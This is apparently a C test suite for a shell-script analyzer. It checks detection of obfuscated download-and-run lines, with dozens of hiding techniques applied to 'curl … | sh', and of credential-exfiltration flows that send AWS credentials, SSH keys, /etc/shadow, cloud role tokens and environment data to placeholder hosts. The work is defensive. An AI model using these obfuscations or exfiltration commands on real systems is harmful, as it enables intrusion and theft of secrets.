/* SPDX-License-Identifier: Apache-2.0
 *
 * Hidden scripts and what the machine must see through: one row per way of hiding.  Every script is inert
 * (hosts under .test, addresses of RFC 5737) and shows one thing. */
#include "shell/shell.h"

#include "base/arena.h"
#include "shell/keep.h"
#include "tap.h"

#include <talloc.h>
#include <zlib.h>

/* Only what the engine asks for: gzip. */
static struct bytes unpack(void *own, struct bytes packed, size_t most)
{
    struct arena *arena = own;
    z_stream z = {0};
    uint8_t *out = arena_alloc(arena, most);
    if (inflateInit2(&z, 15 + 32) != Z_OK)
        return BYTES_NONE;
    uint8_t *in = arena_alloc(arena, packed.len);
    memcpy(in, packed.at, packed.len);
    z.next_in = in, z.avail_in = (unsigned)packed.len, z.next_out = out, z.avail_out = (unsigned)most;
    inflate(&z, Z_FINISH);
    size_t len = z.total_out;
    inflateEnd(&z);
    return len == 0 ? BYTES_NONE : bytes_of(out, len);
}

static struct shell_report *analyze(void *parent, const char *text, struct budget *budget)
{
    struct arena *arena = arena_new(parent);
    struct shell_options options = {.unpack = unpack, .own = arena};
    budget_init(budget);
    return shell_analyze(arena, budget, bytes_of_string(text), &options);
}

/* The hidden line is always: curl http://192.0.2.7/x | sh */
static const struct {
    const char *name, *script;
} hidden[] = {
    {"plain", "curl http://192.0.2.7/x | sh\n"},
    {"wget to standard output", "wget -q -O - http://192.0.2.7/x | bash\n"},
    {"quotes inside a word", "c'u'r\"l\" http://192.0.2.7/x | s\\h\n"},
    {"downloader in a variable", "D=\"curl -fsSL\"\n$D http://192.0.2.7/x | sh\n"},
    {"downloader chosen in branches", "if type wget; then LDR='wget -q -O -'; else LDR='curl'; fi\n$LDR http://192.0.2.7/x|sh\n"},
    {"spliced variables", "a=cu;b=rl;h=http://192.0.2;$a$b $h.7/x | ${a:+s}h\n"},
    {"substrings", "s=xxcurlyy\n${s:2:4} http://192.0.2.7/x | sh\n"},
    {"replaced text", "s=cQurlQ\n${s//Q/} http://192.0.2.7/x | sh\n"},
    {"suffix cut", "s=curl.zzz\n${s%.zzz} http://192.0.2.7/x | sh\n"},
    {"case changed", "S=CURL\n${S,,} http://192.0.2.7/x | sh\n"},
    {"no-op expansions", "x=curl;${x^^}>/dev/null;${x@P} http://192.0.2.7/x | ${y:-sh}\n"},
    {"indirection", "curlvar=curl;n=curlvar;${!n} http://192.0.2.7/x | sh\n"},
    {"brace expansion", "{curl,-s,http://192.0.2.7/x} | sh\n"},
    {"array", "a=(curl -s http://192.0.2.7/x)\n${a[@]} | sh\n"},
    {"array elements", "a=(c url)\n${a[0]}${a[1]} http://192.0.2.7/x | sh\n"},
    {"ANSI-C quoting", "$'\\x63\\165rl' http://192.0.2.7/x | $'\\163h'\n"},
    {"printf", "$(printf '\\143%s' url) http://192.0.2.7/x | sh\n"},
    {"echo -e", "`echo -e '\\x63url'` http://192.0.2.7/x | sh\n"},
    {"rev", "eval \"$(echo 'hs | x/7.2.0.291//:ptth lruc' | rev)\"\n"},
    {"tr", "echo 'pheY uggc://192.0.2.7/k | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | tr 'LR' 'lr' | sh\n"},
    {"sed", "echo 'cXuXrl http://192.0.2.7/x | sXh' | sed 's/X//g' | sh\n"},
    {"cut", "eval \"$(echo '1:curl http;192.0.2.7' | cut -d: -f2 | cut -d';' -f1)://192.0.2.7/x | sh\"\n"},
    {"eval", "eval 'curl http://192.0.2.7/x | sh'\n"},
    {"eval of pieces", "c='curl http://192.0.2.7/x'\nd='| sh'\neval \"$c $d\"\n"},
    {"sh -c", "bash -c \"$(curl -fsSL http://192.0.2.7/x)\"\n"},
    {"process substitution", "bash <(curl -s http://192.0.2.7/x)\n"},
    {"source", "source <(wget -qO- http://192.0.2.7/x)\n"},
    {"here-string", "sh <<< \"$(curl http://192.0.2.7/x)\"\n"},
    {"here-document to shell", "sh <<'EOF'\ncurl http://192.0.2.7/x | sh\nEOF\n"},
    {"base64", "echo Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo= | base64 -d | sh\n"},
    {"base64 twice", "echo WTNWeWJDQm9kSFJ3T2k4dk1Ua3lMakF1TWk0M0wzZ2dmQ0J6YUFvPQo= | base64 -d | base64 --decode | bash\n"},
    {"base64 in a variable", "P=Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo=\nbash -c \"$(echo $P | base64 -d)\"\n"},
    {"base64 by openssl", "echo Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo= | openssl enc -base64 -d -A | sh\n"},
    {"base64 here-string", "base64 -d <<< Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo= | sh\n"},
    {"base64 to a file that runs", "echo Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo= | base64 -d > /tmp/u\nchmod +x /tmp/u\n/tmp/u\n"},
    {"base64 of the host", "H=$(echo MTkyLjAuMi43 | base64 -d)\ncurl http://$H/x | sh\n"},
    {"base32", "echo MN2XE3BANB2HI4B2F4XTCOJSFYYC4MROG4XXQID4EBZWQCQ= | base32 -d | sh\n"},
    {"hex by xxd", "echo 6375726c20687474703a2f2f3139322e302e322e372f78207c2073680a | xxd -r -p | sh\n"},
    {"gzip in base64", "echo H4sIAAAAAAAC/0suLcpRyCgpKbDS1ze0NNIz0DPSM9evUKhRKM7gAgAnXIbNHAAAAA== | base64 -d | gunzip | sh\n"},
    {"python one-liner", "python -c 'import os;os.system(\"curl http://192.0.2.7/x | sh\")'\n"},
    {"python base64", "python3 -c \"import base64,os;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaCIp'))\"\n"},
    {"perl one-liner", "perl -e 'system(\"curl http://192.0.2.7/x | sh\")'\n"},
    {"php one-liner", "php -r 'passthru(\"curl http://192.0.2.7/x | sh\");'\n"},
    {"renamed tool", "mv /usr/bin/curl /usr/bin/url1\nurl1 http://192.0.2.7/x | sh\n"},
    {"alias", "alias g=curl\ng http://192.0.2.7/x | sh\n"},
    {"function with arguments", "get() { curl \"$1\" | $2; }\nget http://192.0.2.7/x sh\n"},
    {"function called again after its variable changed",
     "f() { $C http://192.0.2.7/x | sh; }\nC=true\nf;f;f;f;f;f;f;f\nC=curl\nf\n"},
    {"variable a repeated call assigns", "g() { r=$1; }\ng curl; g true; g curl\n$r http://192.0.2.7/x | sh\n"},
    {"file a repeated call writes",
     "w() { echo \"$1 http://192.0.2.7/x | sh\" > /tmp/a; }\nw curl; w true; w curl; w true; w curl; sh /tmp/a\n"},
    {"function called once more in a function", "a() { b; }\nb() { $C http://192.0.2.7/x|sh; }\na;b;C=curl;a\n"},
    {"helper called with other words thirty times",
     "get() { curl \"$1\" | $2; }\nfor i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28; "
     "do get http://192.0.2.7/$i cat; done\nget http://192.0.2.7/x sh\n"},
    {"function never called", "main() { curl http://192.0.2.7/x | sh; }\n"},
    {"loop over words", "for h in 192.0.2.6 192.0.2.7; do curl http://$h/x | sh; done\n"},
    {"xargs", "echo http://192.0.2.7/x | xargs curl | sh\n"},
    {"wrappers", "nohup sudo -E timeout 30 env A=1 busybox wget -O- http://192.0.2.7/x | sh\n"},
    {"unbalanced quote before", "echo it's broken\ncurl http://192.0.2.7/x | sh\n"},
    {"open double quote before", "echo \"broken\nfi\ncurl http://192.0.2.7/x | sh\n"},
    {"stray keywords", "fi\ndone\n}\nesac\ncurl http://192.0.2.7/x | sh\n"},
    {"missing fi", "if true; then\ncurl http://192.0.2.7/x | sh\n"},
    {"here-document without end", "cat <<EOF > /dev/null\n$(curl http://192.0.2.7/x | sh)\n"},
    {"written then run", "echo 'curl http://192.0.2.7/x | sh' > /tmp/r.sh\nsh /tmp/r.sh\n"},
    {"appended line by line", "echo '#!/bin/sh' > /tmp/r\necho -n 'curl http://192.' >> /tmp/r\necho '0.2.7/x | sh' >> /tmp/r\nbash /tmp/r\n"},
    {"here-document then run", "cat > /tmp/r.sh <<'E'\ncurl http://192.0.2.7/x | sh\nE\nchmod 755 /tmp/r.sh; cd /tmp; ./r.sh\n"},
    {"trap", "trap 'curl http://192.0.2.7/x | sh' EXIT\n"},
    {"printf -v", "printf -v c '%s%s' cu rl; $c http://192.0.2.7/x | sh\n"},
    {"arithmetic", "s=abcurl\n${s:$((1+1)):$((2*2))} http://192.0.2.7/x | sh\n"},
    {"read", "read a b <<< 'curl http://192.0.2.7/x'\n$a $b | sh\n"},
    {"carriage returns", "D=curl\r\n$D http://192.0.2.7/x | sh\r\n"},
    {"line continuation", "cu\\\nrl http://192.0.2.7/x \\\n | sh\n"},
    {"eval of a number", "x=$(printf \"\\x63\\x75\\x72\\x6c\"); $x http://192.0.2.7/x | sh\n"},
    {"nested: base64, gzip, rev, eval", "eval \"$(echo =AAAAQS9rzyyAIw5Q5MKRhKUve9MSPD0zINN0ez1SDbKpgCyRpcLu8EURx8Sts0ACAAAAAAAIs4H | rev | base64 -d | gzip -dc)\"\n"},
};

static void test_hidden(void *parent)
{
    for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++) {
        struct budget budget;
        struct shell_report *report = analyze(parent, hidden[i].script, &budget);
        bool found = report_count(report, BEHAVIOUR_X1) > 0;
        report_spans_fill(arena_new(parent), report);
        if (!tap_ok(found, "hidden: %s", hidden[i].name))
            for (const struct shell_span *s = report->span; s != NULL; s = s->next)
                printf("#   %u: %.*s\n", s->line, BYTES_FMT(s->text));
    }
}

/* What stands behind a hundred decoys is found; HEAD defines a function f or begins a loop, LAST is the act. */
static const struct {
    const char *name, *head, *decoy, *last;
} decoys[] = {
    {"a helper that fetches", "f() { curl -s \"$1\" | sh; }\n", "f https://get.docker.com/%d\n", "f http://192.0.2.7/x\n"},
    {"a helper that evaluates", "f() { eval \"$1\"; }\n", "f 'n=%d'\n", "f 'curl http://192.0.2.7/x | sh'\n"},
    {"a helper that decodes", "f() { echo \"$1\" | base64 -d; }\n", "x=$(f bj0%d)\n",
     "eval \"$(f Y3VybCBodHRwOi8vMTkyLjAuMi43L3ggfCBzaAo=)\"\n"},
    {"a helper that turns letters", "f() { echo \"$1\" | tr n-za-m a-z; }\n", "x=$(f word%d)\n",
     "eval \"$(f 'phey uggc://192.0.2.7/k | fu')\"\n"},
    {"a helper that collects", "f() { s=\"$s$1\"; }\n", "f '#%d\n'\n", "f 'curl http://192.0.2.7/x | sh'\neval \"$s\"\n"},
    {"a helper that writes", "f() { echo \"$1\" >> /tmp/a; }\n", "f 'n=%d'\n", "f 'curl http://192.0.2.7/x | sh'\nsh /tmp/a\n"},
    {"a variable a helper reads", "f() { $A; }\n", "A='n %d'; f\n", "A='curl -o /tmp/x http://192.0.2.7/x'; f; sh /tmp/x\n"},
    {"a long helper, and an address",
     "f() { a=1; b=2; c=3; d=4; e=5; g=6; h=7; i=8; j=9; k=1; l=2; curl -s \"$1\" | sh; }\n", "f https://get.docker.com/%d\n",
     "f http://192.0.2.7/x\n"},
    {"words of a loop", "for i in \\\n", "word%d \\\n", "'curl http://192.0.2.7/x | sh'; do eval \"$i\"; done\n"},
};

static struct shell_report *decoyed(void *parent, const char *head, const char *decoy, const char *last)
{
    struct budget budget;
    char *text = talloc_strdup(parent, head);
    for (int i = 100; i < 200; i++) {
        size_t at = strlen(decoy), number = (size_t)(strchr(decoy, '%') - decoy);
        text = talloc_asprintf_append(text, "%.*s%d%.*s", (int)number, decoy, i, (int)(at - number - 2), decoy + number + 2);
    }
    return analyze(parent, talloc_asprintf_append(text, "%s", last), &budget);
}

static void test_decoys(void *parent)
{
    for (size_t i = 0; i < sizeof decoys / sizeof decoys[0]; i++) {
        struct shell_report *report = decoyed(parent, decoys[i].head, decoys[i].decoy, decoys[i].last);
        tap_ok(report_count(report, BEHAVIOUR_X1) > 0, "behind decoys: %s", decoys[i].name);
    }
    struct shell_report *report = decoyed(parent, "f() { echo \"$(date) $1\"; }\n", "f 'step %d'\n", "");
    tap_ok(report->skimmed == 0, "what is only printed is no gap");
    report = decoyed(parent, "f() { a=1; b=2; c=3; d=4; e=5; g=6; h=7; i=8; j=9; make \"$1\"; }\n", "f step%d\n", "");
    tap_ok(report->skimmed > 0, "what was judged by its words is counted");
}

/* The lines of FLOW from its source to its sink: "2 3 5". */
static const char *flow_lines(const struct shell_flow *flow)
{
    static char out[256];
    uint32_t line[32], count = 0;
    size_t at = 0;
    for (const struct shell_step *s = flow->step; s != NULL && count < 32;
         s = step_before(s, flow->source))
        if (count == 0 || line[count - 1] != s->line)
            line[count++] = s->line;
    out[0] = 0;
    while (count > 0)
        at += (size_t)snprintf(out + at, sizeof out - at, "%s%u", at > 0 ? " " : "", line[--count]);
    return out;
}

static const struct {
    const char *name, *source, *lines, *script;
} flows[] = {
    {"cat into a variable, into a URL", "cloud_credential_file", "1 2",
     "K=$(cat /home/*/.aws/credentials)\ncurl \"http://192.0.2.7/in?k=$K\"\n"},
    {"into a file, curl -F", "cloud_credential_file", "2 3",
     "OUT=/tmp/.o\ncat /root/.aws/credentials >> $OUT\ncurl -F 'userfile=@/tmp/.o' http://drop.test/in.php\n"},
    {"into a tar, curl -T", "ssh_private_key", "1 2", "tar czf /tmp/k.tgz /root/.ssh/\ncurl -T /tmp/k.tgz http://drop.test/up\n"},
    {"through a function", "imds_role_key", "2 3 1",
     "send() { curl --data \"$1\" http://drop.test/x; }\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role)\nsend \"$R\"\n"},
    {"base64 into a URL", "cloud_credential_file", "1 2 3",
     "D=$(< /root/.aws/credentials)\nB=$(echo $D | base64 -w 0)\nwget \"http://192.0.2.7/aws.php?data=$B\"\n"},
    {"--data @file", "shell_history", "1 2", "cat /root/.bash_history > /tmp/h\ncurl --data @/tmp/h http://drop.test/h\n"},
    {"wget --post-file", "ssh_private_key", "1", "wget --post-file=/root/.ssh/id_rsa http://drop.test/k\n"},
    {"nc", "password_file", "1", "cat /etc/shadow | nc 192.0.2.7 4444\n"},
    {"/dev/tcp", "process_environment", "1", "strings /proc/*/environ | grep AWS > /dev/tcp/192.0.2.7/80\n"},
    {"environment by curl -d @-", "process_environment", "1", "env | base64 | curl -d @- http://drop.test/e\n"},
    {"task role", "ecs_role_key", "1 2",
     "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /tmp/e\ncurl -F f=@/tmp/e http://drop.test/\n"},
    {"copied file, then moved", "cloud_credential_file", "1 2 3",
     "cp /root/.docker/config.json /tmp/a\nmv /tmp/a /tmp/b\ncurl -F f=@/tmp/b http://drop.test/\n"},
    {"socket on a descriptor", "cloud_credential_file", "2",
     "exec 3<>/dev/tcp/192.0.2.1/99\ncat /root/.aws/credentials >&3\n"},
    {"line by line into an array", "cloud_credential_file", "1 2",
     "mapfile -t L < /root/.aws/credentials\ncurl -d \"${L[*]}\" http://192.0.2.1/\n"},
    {"folder copied, zipped", "cloud_credential_file", "1 2 3",
     "cp -r /root/.aws /tmp/st\nzip -r /tmp/st.zip /tmp/st\ncurl -T /tmp/st.zip http://192.0.2.1/\n"},
    {"packed copy", "ssh_private_key", "1 2 3",
     "tar cf /tmp/k.tar /root/.ssh\ngzip /tmp/k.tar\ncurl -T /tmp/k.tar.gz http://192.0.2.1/\n"},
    {"DNS query", "process_environment", "1 2",
     "for v in $(env | base64 -w 40); do\n nslookup $v.x.drop.test\ndone\n"},
    {"into ssh", "ssh_private_key", "1", "cat /root/.ssh/id_rsa | ssh x@192.0.2.1 'cat > k'\n"},
    {"service-account token", "service_account_token", "1 2",
     "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -d \"$T\" http://drop.test/\n"},
    {"one of two in a file", "cloud_credential_file", "1 3",
     "cat /root/.aws/credentials > /tmp/o\nenv >> /tmp/o\ncurl -F f=@/tmp/o http://drop.test/\n"},
    {"the other of two", "process_environment", "2 3",
     "cat /root/.aws/credentials > /tmp/o\nenv >> /tmp/o\ncurl -F f=@/tmp/o http://drop.test/\n"},
    {"of three in one argument", "shell_history", "2 4",
     "A=$(cat /root/.aws/credentials)\nB=$(cat /root/.bash_history)\nC=$(env)\ncurl -d \"$A$B$C\" http://drop.test/\n"},
    {"on its own way before they meet", "ssh_private_key", "1 2 4",
     "K=$(cat /root/.ssh/id_rsa)\nL=$(echo $K | base64)\nA=$(cat /root/.aws/credentials)\ncurl -d \"$A-$L\" http://drop.test/\n"},
    {"find into a loop into a file", "ssh_private_key", "1 2 4",
     "for f in $(find / -name 'id_rsa*'); do\ncat $f >> /tmp/keys\ndone\ncurl -F k=@/tmp/keys http://drop.test/\n"},
};

static void test_flows(void *parent)
{
    for (size_t i = 0; i < sizeof flows / sizeof flows[0]; i++) {
        struct budget budget;
        struct shell_report *report = analyze(parent, flows[i].script, &budget);
        const struct shell_flow *flow = report->flow;
        while (flow != NULL && strcmp(taint_rows[flow->source].name, flows[i].source) != 0)
            flow = flow->next;
        if (!tap_ok(flow != NULL, "flow: %s", flows[i].name))
            continue;
        tap_string(bytes_of_string(flow_lines(flow)), flows[i].lines, "its lines");
    }
}

/* All of REPORT that outlives its commands, in words under PARENT. */
static char *told(void *parent, const struct shell_report *report)
{
    char *out = talloc_asprintf(parent, "layers %u tactics %x", report->layer_count, report->tactics);
    struct arena *arena = arena_new(parent);
    for (uint32_t i = 0; i < report->layer_count; i++) {
        const struct shell_layer *layer = report->layer[i];
        struct bytes way = layer->parent == NULL ? BYTES("file") : layer_path(arena, layer->parent, layer->line);
        out = talloc_asprintf_append(out, "\n%.*s %.*s %.*s: %.*s", BYTES_FMT(way), BYTES_FMT(layer->how),
                                     BYTES_FMT(layer->path), BYTES_FMT(layer->text));
    }
    for (const struct shell_fetch *f = report->fetch; f != NULL; f = f->next)
        out = talloc_asprintf_append(out, "\nfetch %u.%u %.*s %.*s %.*s", f->layer->id, f->line, BYTES_FMT(f->tool),
                                     BYTES_FMT(f->url), BYTES_FMT(f->path));
    for (const struct shell_flow *f = report->flow; f != NULL; f = f->next)
        out = talloc_asprintf_append(out, "\nflow %s %s %.*s %.*s", taint_rows[f->source].name, flow_lines(f),
                                     BYTES_FMT(f->sink), BYTES_FMT(f->destination));
    for (uint32_t i = 0; i < ROLE_COUNT * BEHAVIOUR_COUNT; i++) {
        const struct shell_behaviour *b = &report->behaviour[i / BEHAVIOUR_COUNT][i % BEHAVIOUR_COUNT];
        for (uint32_t k = 0; k < b->place_count; k++)
            out = talloc_asprintf_append(out, "\n%u: %u %d %d, %u.%u %.*s", i, b->count, b->hard, b->sure,
                                         b->place[k].layer->id, b->place[k].line, BYTES_FMT(b->place[k].detail));
    }
    for (uint32_t i = 0; i < report->kill_count && i < KILLS_MAX; i++)
        out = talloc_asprintf_append(out, "\nkill %.*s", BYTES_FMT(report->kill[i]));
    return out;
}

/* A report says the same when the memory it was made in is gone. */
static void check_kept(void *parent, const char *script)
{
    void *first = talloc_new(parent);
    struct budget budget;
    const struct shell_report *report = analyze(first, script, &budget);
    char *before = told(parent, report);
    report = report_keep(arena_new(parent), report, bytes_of_string(script));
    talloc_free(first);
    char *after = told(parent, report);
    tap_string(bytes_of_string(after), before, "kept");
}

static void test_kept(void *parent)
{
    for (size_t i = 0; i < sizeof flows / sizeof flows[0]; i++)
        check_kept(parent, flows[i].script);
    for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
        check_kept(parent, hidden[i].script);
    check_kept(parent, "pkill -9 xmrig\npkill kinsing; rm -rf /tmp/.x\necho 'a b' > /tmp/.y; chmod +x /tmp/.y; /tmp/.y\n");
}

static void test_limits(void *parent)
{
    static const char *const nests[] = {"$(", "`", "\"$(", "${x:-", "(", "if ", "{ ", "((", "<(", "case x in a) ", "f(){ ", "'", "\"", "<<E\n", "a=(", "[[ "};
    for (size_t i = 0; i < sizeof nests / sizeof nests[0]; i++) {
        struct budget budget;
        size_t len = strlen(nests[i]), count = 60000 / len;
        char *text = talloc_size(parent, len * count + 1);
        for (size_t k = 0; k < count; k++)
            memcpy(text + k * len, nests[i], len);
        text[len * count] = 0;
        struct shell_report *report = analyze(parent, text, &budget);
        tap_ok(report != NULL, "60 KB of '%s' ends", nests[i][strlen(nests[i]) - 1] == '\n' ? "here-documents" : nests[i]);
    }
    struct budget budget;
    const struct shell_report *report = analyze(parent, "x=aaaaaaaaaaaaaaaa\nfor i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do x=$x$x; done\n", &budget);
    tap_ok(report->tactics == 0, "doubling strings end");
    analyze(parent, "f() { f; f; }\nf\ng() { h; }\nh() { g; }\ng\n", &budget);
    tap_ok(true, "recursion ends");
    const uint32_t count = 30000;
    char *text = talloc_zero_size(parent, count * 40);
    for (uint32_t i = 1, at = 0; i < count; i++)
        at += (uint32_t)sprintf(text + at, "v%u=\"$v%u\"$(printf %%s x)\n", i, i - 1);
    report = analyze(parent, text, &budget);
    tap_ok((report->limits & 1U << LIMIT_EVAL_BYTES) != 0, "values that grow end, and the limit is named");
    const size_t dense = (size_t)4 << 20;
    text = talloc_zero_size(parent, dense + 1);
    for (size_t i = 0; i < dense; i++)
        text[i] = "a b;"[i % 4];
    report = analyze(parent, text, &budget);
    tap_ok((report->limits & 1U << LIMIT_EVAL_BYTES) != 0, "4 MB of the shortest commands end, and the limit is named");
}

int main(void)
{
    void *parent = talloc_new(NULL);
    test_hidden(parent);
    test_decoys(parent);
    test_flows(parent);
    test_kept(parent);
    test_limits(parent);
    talloc_free(parent);
    return tap_end();
}
